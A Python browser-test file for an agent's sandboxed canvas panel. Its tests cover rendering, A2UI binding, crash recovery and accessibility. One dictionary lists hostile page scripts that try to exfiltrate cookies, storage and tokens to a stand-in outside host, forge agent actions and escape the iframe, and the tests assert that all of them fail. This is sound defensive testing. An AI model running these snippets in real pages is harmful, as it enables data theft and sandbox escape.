"""The canvas in a real browser: shown beside the chat, used by a person, and held where it is whatever it tries."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from nursery import Child, nursery
from palinurus.core.types.messages import ToolResult, UserMessage
from palinurus.testing.home import make_home
from palinurus.testing.model import ScriptedModel, call_tools, say
from palinurus.testing.server import ModelServer
from ports import reserve_port
from web.conftest import OPEN, Visit
from web.served import PATIENCE, TOKEN, opened, served
from web.test_chat import write
from web.test_pages import AXE, serious

PAGE = """<!doctype html><title>x</title><h1>Tides</h1><p id=p>high at noon</p>
<button id=b onclick="palinurus.send('book', {berth: 7})">Book</button>"""
ROOM = ".canvas-room iframe:not(.coming)"


def use(action: str, **args: Any) -> Any:
    return call_tools(("canvas", {"action": action, **args}))


def results(model: ScriptedModel) -> list[ToolResult]:
    return [message for message in model.requests[-1].messages if isinstance(message, ToolResult)]


def said(model: ScriptedModel) -> list[UserMessage]:
    return [message for message in model.requests[-1].messages if isinstance(message, UserMessage)]


@pytest.mark.seed(276)
async def test_a_page_is_shown_used_and_hidden(page: Any, visit: Visit) -> None:
    model = ScriptedModel([use("present", html=PAGE, title="Harbour"), say("There."), use("hide"), say("Booked.")])
    await visit(model)
    await write(page, "show me the tides")
    frame = page.frame_locator(ROOM)
    await frame.locator("h1 >> text=Tides").wait_for()
    assert await page.locator(".canvas h2").inner_text() == "Harbour"
    assert await page.locator(".tool-head code").first.inner_text() == "present Harbour"
    await page.wait_for_selector(".md >> text=There.")
    await frame.locator("#b").click()
    await page.wait_for_selector(".md >> text=Booked.")
    await page.wait_for_selector(".canvas", state="detached")
    first, last = said(model)
    assert '"book"' in last.text and '"berth": 7' in last.text
    assert (first.source, last.source) == ("", "own canvas")  # only that something was pressed is the owner's
    assert await page.locator(".pressed >> text=You used").count() == 1


async def test_a_script_runs_in_the_page_as_the_person_sees_it(page: Any, visit: Visit) -> None:
    steps = [
        use("present", html=PAGE),
        say("Write."),
        use("eval", javaScript="document.querySelector('#p').textContent"),
        use("eval", javaScript="new Promise(done => setTimeout(() => done({a: [1, 2]}), 20))"),
        use("eval", javaScript="nothing.there"),
        use("eval", javaScript="new Promise(() => {})", timeoutMs=300),
        say("Read."),
        use("eval", javaScript="1"),
        say("Closed."),
    ]
    model = ScriptedModel(steps)
    await visit(model)
    await write(page, "show")
    frame = page.frame_locator(ROOM)
    await frame.locator("#p").wait_for()
    await page.wait_for_selector(".md >> text=Write.")
    await frame.locator("#p").evaluate("element => element.textContent = 'changed since'")
    await write(page, "read it")
    await page.wait_for_selector(".md >> text=Read.")
    told = [one.text for one in results(model)[1:]]
    assert told[:2] == ['"changed since"', '{"a":[1,2]}']
    assert "nothing is not defined" in told[2] and "no answer in 0.3 s" in told[3]
    await page.click("[aria-label='Close the canvas']")
    await page.wait_for_selector(".show-canvas")
    await write(page, "again")
    await page.wait_for_selector(".md >> text=Closed.")
    assert "the person has closed the canvas" in results(model)[-1].text
    await page.click(".show-canvas")
    await page.wait_for_selector(".canvas h2")


SURFACE = [
    {
        "surfaceUpdate": {
            "surfaceId": "main",
            "components": [
                {"id": "root", "component": {"Card": {"child": "all"}}},
                {
                    "id": "all",
                    "component": {
                        "Column": {
                            "children": {
                                "explicitList": ["head", "name", "now", "sure", "line", "rows", "odd", "far", "go"]
                            }
                        }
                    },
                },
                {"id": "head", "component": {"Text": {"text": {"literalString": "Berth"}, "usageHint": "h2"}}},
                {
                    "id": "name",
                    "component": {"TextField": {"label": {"literalString": "Boat"}, "text": {"path": "/boat"}}},
                },
                {"id": "now", "component": {"Text": {"text": {"path": "/boat"}, "usageHint": "caption"}}},
                {
                    "id": "sure",
                    "component": {"CheckBox": {"label": {"literalString": "Paid"}, "value": {"path": "/paid"}}},
                },
                {"id": "line", "component": {"Divider": {}}},
                {
                    "id": "rows",
                    "component": {"List": {"children": {"template": {"componentId": "row", "dataBinding": "/berths"}}}},
                },
                {"id": "row", "component": {"Text": {"text": {"path": "name"}}}},
                {"id": "odd", "component": {"Hologram": {"depth": 3}}},
                {"id": "far", "component": {"Image": {"url": {"literalString": "https://evil.example/x.png"}}}},
                {
                    "id": "go",
                    "component": {
                        "Button": {
                            "child": "goes",
                            "primary": True,
                            "action": {
                                "name": "reserve",
                                "context": [
                                    {"key": "boat", "value": {"path": "/boat"}},
                                    {"key": "paid", "value": {"path": "/paid"}},
                                ],
                            },
                        }
                    },
                },
                {"id": "goes", "component": {"Text": {"text": {"literalString": "Reserve <b>now</b>"}}}},
            ],
        }
    },
    {
        "dataModelUpdate": {
            "surfaceId": "main",
            "contents": [
                {"key": "boat", "valueString": "Argo"},
                {"key": "paid", "valueBoolean": False},
                {
                    "key": "berths",
                    "valueMap": [
                        {"key": "a", "valueMap": [{"key": "name", "valueString": "A1 free"}]},
                        {"key": "b", "valueMap": [{"key": "name", "valueString": "B2 taken"}]},
                    ],
                },
            ],
        }
    },
    {"beginRendering": {"surfaceId": "main", "root": "root"}},
]
LINES = "\n".join(json.dumps(one) for one in SURFACE)
MORE = json.dumps(
    {
        "dataModelUpdate": {
            "surfaceId": "main",
            "path": "/berths/b",
            "contents": [{"key": "name", "valueString": "B2 free"}],
        }
    }
)


async def test_a2ui_is_drawn_bound_and_brought_up_to_date_without_being_loaded_again(page: Any, visit: Visit) -> None:
    model = ScriptedModel(
        [use("a2ui_push", jsonl=LINES), say("Choose."), use("a2ui_push", jsonl=MORE), say("More."), say("Reserved.")]
    )
    await visit(model)
    await write(page, "berths")
    frame = page.frame_locator(ROOM)
    await frame.locator("h2 >> text=Berth").wait_for()
    assert await frame.locator("[data-component=row]").all_inner_texts() == ["A1 free", "B2 taken"]
    assert await frame.locator("[data-component=goes]").inner_text() == "Reserve <b>now</b>"
    assert await frame.locator(".unknown").all_inner_texts() == [
        "This canvas cannot show “Hologram”.",
        "picture from elsewhere: not shown",
    ]
    await page.wait_for_selector(".md >> text=Choose.")
    await frame.locator("label >> text=Boat").locator("..").locator("input").fill("Nautilus")
    assert await frame.locator("[data-component=now]").inner_text() == "Nautilus"
    await frame.locator("main").evaluate("main => main.kept = 1")
    await write(page, "more")
    await frame.locator("text=B2 free").wait_for()
    assert await frame.locator("main").evaluate("main => main.kept") == 1
    assert await frame.locator("input").first.input_value() == "Nautilus"
    await page.wait_for_selector(".md >> text=More.")
    await frame.locator("[type=checkbox]").check()
    await frame.locator("button").click()
    await page.wait_for_selector(".md >> text=Reserved.")
    text = said(model)[-1].text
    assert 'The person used "reserve" (component go, surface main)' in text
    assert '"boat": "Nautilus"' in text and '"paid": true' in text


async def test_after_kill_9_the_page_is_there_again_and_a_script_on_its_way_is_told_as_unknown(
    page: Any, tmp_path: Path
) -> None:
    script = [
        use("present", html=PAGE, title="Harbour"),
        say("There."),
        use("eval", javaScript="document.querySelector('#p').textContent = 'it ran'; new Promise(() => {})"),
        say("I cannot know."),
    ]
    async with ModelServer(script) as model:
        home = make_home(tmp_path, {"gateway": {"auth": {"mode": "token", "token": TOKEN}}}, url=model.url)
        port = reserve_port()

        @contextmanager
        def up() -> Iterator[Child]:
            kept = {name: os.environ[name] for name in ("PATH", "PYTHONPATH", "LANG") if name in os.environ}
            env = {**kept, "HOME": str(tmp_path), "PALINURUS_HOME": home}
            args, log = ["gateway", "--port", str(port)], os.path.join(home, "log")
            process = nursery().start(args, env=env, cwd=str(tmp_path), log=log)
            try:
                yield process
            finally:
                process.kill()
                process.wait()

        frame = page.frame_locator(ROOM)
        with up():
            async with asyncio.timeout(60):
                while not await _listens(port):
                    await asyncio.sleep(0.05)
            await page.goto(f"http://127.0.0.1:{port}/#token={TOKEN}")
            await write(page, "show")
            await page.wait_for_selector(".md >> text=There.")
            await frame.locator("text=high at noon").wait_for()
            await write(page, "look")
            await frame.locator("text=it ran").wait_for()
        await page.wait_for_selector(".line")
        with up():
            await page.wait_for_selector(".line", state="detached", timeout=60_000)
            await page.wait_for_selector(".md >> text=I cannot know.", timeout=60_000)
            await page.reload()
            await frame.locator("text=high at noon").wait_for()
            assert await page.locator(".canvas h2").inner_text() == "Harbour"
        assert "unknown" in str(model.requests[-1].body["messages"][-1])


async def _listens(port: int) -> bool:
    try:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return False
    writer.close()
    return True


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl makes the certificate")
async def test_behind_tls_and_below_a_base_path_on_the_one_port(browser: Any, tmp_path: Path) -> None:
    gateway = {"tls": {"enabled": True}, "controlUi": {"basePath": "/pal/ui"}}
    model = ScriptedModel([use("present", html=PAGE), say("There."), say("Booked.")])
    async with served(tmp_path / "h", model, gateway=gateway) as site:
        async with opened(browser, 1280, 860, ignore_https_errors=True) as page:
            await page.goto(site.url)
            await write(page, "show")
            await page.wait_for_selector(".md >> text=There.")
            await page.frame_locator(ROOM).locator("#b").click()
            await page.wait_for_selector(".md >> text=Booked.")
            assert await page.locator(ROOM).evaluate("frame => frame.contentDocument") is None
            edge = page.locator(".canvas-edge")
            wide = await page.locator(".canvas").evaluate("side => side.clientWidth")
            await edge.press("ArrowLeft")
            assert await edge.get_attribute("aria-valuenow") == "55"
            assert await page.locator(".canvas").evaluate("side => side.clientWidth") > wide
            await page.set_viewport_size({"width": 390, "height": 780})
            assert await page.locator(".canvas").evaluate("side => side.clientWidth") == 390


async def test_axe_finds_nothing_in_the_panel_nor_in_what_a2ui_draws(page: Any, visit: Visit) -> None:
    if not AXE.is_file():
        pytest.skip("axe-core is not installed: make web")
    await visit(ScriptedModel([use("present", jsonl=LINES, title="Berths"), say("ok"), say("pressed")]))
    await write(page, "show")
    await page.frame_locator(ROOM).locator("h2").wait_for()
    await page.frame_locator(ROOM).locator("button").click()
    await page.wait_for_selector(".pressed")
    frame = page.frames[-1]
    found: list[str] = []
    for one, where in ((page, ".content"), (frame, "main")):
        await one.evaluate(AXE.read_text())
        for scheme in ("light", "dark"):
            await page.emulate_media(color_scheme=scheme)
            await page.evaluate("document.querySelector('pal-canvas').requestUpdate()")
            await page.wait_for_timeout(50)
            found += await serious(one, where)
    assert found == []


class Outside(asyncio.DatagramProtocol):
    """A server that nobody may reach: counts connections and datagrams."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.port = 0

    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.read(200)
        self.seen.append(head.decode("latin-1").split("\r\n")[0] or "a connection")
        writer.close()

    def datagram_received(self, data: bytes, addr: Any) -> None:
        self.seen.append("a datagram")


@pytest.fixture
async def outside() -> AsyncIterator[Outside]:
    made = Outside()
    server = await asyncio.start_server(made.take, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    datagrams, _ = await loop.create_datagram_endpoint(lambda: made, local_addr=("127.0.0.1", made.port))
    yield made
    datagrams.close()
    server.close()


# What a hostile document tries. Each runs in the canvas; `got` is what it learned, which must be nothing.
TRIES: dict[str, str] = {
    "parent dom": "got(parent.document.body.innerHTML)",
    "top dom": "got(top.document.title)",
    "parent storage": "got(parent.localStorage.length)",
    "own storage": "got(localStorage.length)",
    "session storage": "got(sessionStorage.length)",
    "database": "const db = indexedDB.open('x'); db.onsuccess = () => got('database')",
    "cookies": "document.cookie = 'a=1'; document.cookie && got(document.cookie)",
    "frame element": "frameElement && got('frame')",
    "fetch the gateway": "fetch(new URL('/v1/models', URL_)).then(r => r.text()).then(got)",
    "fetch its own origin": "fetch(location.href).then(r => r.text()).then(got)",
    "xhr": "const x = new XMLHttpRequest(); x.onload = () => got(x.responseText); x.open('GET', URL_); x.send()",
    "socket": "const s = new WebSocket(URL_.replace('http', 'ws')); s.onopen = () => got('socket')",
    "gateway socket": "const s = new WebSocket(location.origin.replace('http', 'ws').replace('null', '') || 'ws://' + "
    "location.host); s.onopen = () => got('gateway socket')",
    "event source": "const e = new EventSource('/health'); e.onopen = () => got('events')",
    "beacon": "navigator.sendBeacon(OUT, 'x')",
    "picture outside": "new Image().src = OUT + '?picture'",
    "style outside": "document.head.innerHTML += `<link rel=stylesheet href='${OUT}?style'>`",
    "import outside": "import(OUT + 'a.js').catch(() => 0)",
    "script outside": "const s = document.createElement('script'); s.src = OUT + '?script'; document.head.append(s)",
    "frame outside": "const f = document.createElement('iframe'); f.src = OUT + '?frame'; document.body.append(f)",
    "object outside": "document.body.insertAdjacentHTML('beforeend', `<object data='${OUT}?object'></object>`)",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${OUT}?prefetch'>`)",
    "peer": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + new URL(OUT).port}]}); "
    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
    "JSON.stringify({prefetch: [{source: 'list', urls: [OUT + '?speculation']}]}); document.head.append(s)",
    "worker": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${OUT}?worker')`])))",
    "service worker": "navigator.serviceWorker.register('/sw.js').then(() => got('service worker'))",
    "form outside": "document.body.insertAdjacentHTML('beforeend', `<form id=f method=post action='${OUT}?form'>"
    "</form>`); f.submit()",
    "go elsewhere": "location.href = OUT + '?self'",
    "refresh elsewhere": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url="
    "${OUT}?refresh'>`)",
    "top elsewhere": "top.location = OUT + '?top'",
    "top within": "top.location = '/sessions'",
    "parent elsewhere": "parent.location.href = OUT + '?parent'",
    "window": "const w = open(OUT + '?window'); w && got('window')",
    "link with target": "document.body.insertAdjacentHTML('beforeend', `<a id=a target=_top href='${OUT}?link'>x</a>`);"
    "a.click()",
    "javascript in the top": "open('javascript:alert(1)', '_top')",
    "act unasked": "palinurus.send('forged', {}); "
    "parent.postMessage({palinurus: {type: 'action', name: 'forged'}}, '*')",
    "answer unasked": "parent.postMessage({palinurus: {type: 'result', id: 'x', ok: true, value: 'forged'}}, '*')",
    "dialog": "alert(1); const word = prompt('password?'); word && got(word)",
    "token in the address": "/token|secret/i.test(location.hash + document.referrer) && got(document.referrer)",
}


async def test_hostile_pages_reach_neither_the_gateway_nor_anybody_else(
    browser: Any, tmp_path: Path, outside: Outside
) -> None:
    model = ScriptedModel([say("ok")], repeat=True)
    learned: list[str] = []
    async with served(tmp_path / "h", model, tools=OPEN) as site:
        context = await browser.new_context()
        page = await context.new_page()
        page.on("console", lambda said: learned.append(said.text) if said.text.startswith("GOT") else None)
        page.on("dialog", lambda dialog: learned.append(f"GOT dialog {dialog.message}"))
        await page.goto(site.url)
        await page.wait_for_selector("pal-composer textarea")
        key = await page.evaluate("window.palinurus.store?.key ?? 'agent:main:main'")
        place = page.url
        board = site.app.canvas.board
        for name, code in TRIES.items():
            document = (
                f"<!doctype html><body><script>const URL_ = 'http://127.0.0.1:{site.gateway.port}/', "
                f"OUT = 'http://127.0.0.1:{outside.port}/', got = what => console.log('GOT {name}', what);"
                f"onload = () => {{ try {{ {code} }} catch (e) {{ }} }}</script><h1>{name}</h1>"
            )
            await board.change(key, lambda old, html=document: replace(old, html=html, shown=True), "present")
            leaves = name in ("go elsewhere", "refresh elsewhere", "form outside")  # its heading may be gone at once
            heading = page.frame_locator(ROOM).locator(f"h1 >> text={name}")
            try:
                await heading.wait_for(timeout=2_000 if leaves else PATIENCE)
            except Exception:
                if not leaves:
                    raise
            await page.wait_for_timeout(200)
            assert page.url == place and len(context.pages) == 1, name
        await page.wait_for_timeout(500)
        await page.evaluate("document.querySelector('pal-composer textarea').focus()")
        await page.keyboard.type("x")  # a person is at the keyboard, but not in the canvas
        frame = page.frames[-1]
        await frame.evaluate("palinurus.send('forged again')")
        await page.wait_for_timeout(300)
        await context.close()
    assert learned == []
    assert outside.seen == []
    assert model.requests == []


async def test_a_canvas_opened_by_itself_is_framed_and_of_no_origin(
    browser: Any, tmp_path: Path, outside: Outside
) -> None:
    html = (
        "<h1>alone</h1><script>document.title = origin; "
        f"setTimeout(() => location.href = 'http://127.0.0.1:{outside.port}/?self', 50)</script>"
    )
    model = ScriptedModel([use("present", html=html), say("ok")])
    async with served(tmp_path / "h", model, tools=OPEN) as site:
        page = await browser.new_page()
        await page.goto(site.url)
        await page.wait_for_selector("pal-composer textarea")
        await write(page, "show")
        await page.wait_for_selector(".md >> text=ok")
        shown = await page.evaluate("window.palinurus.request('canvas.get', {sessionKey: 'agent:main:main'})")
        address = f"http://127.0.0.1:{site.gateway.port}{shown['path']}"
        await page.goto(address)
        await page.wait_for_timeout(500)
        assert page.url == address and outside.seen == []
        assert await page.evaluate("document.querySelector('iframe').sandbox.value") == "allow-scripts allow-forms"
        response = await page.goto(address.replace("/cap/", "/cap/0"))
        assert response.status == 404
        await page.close()
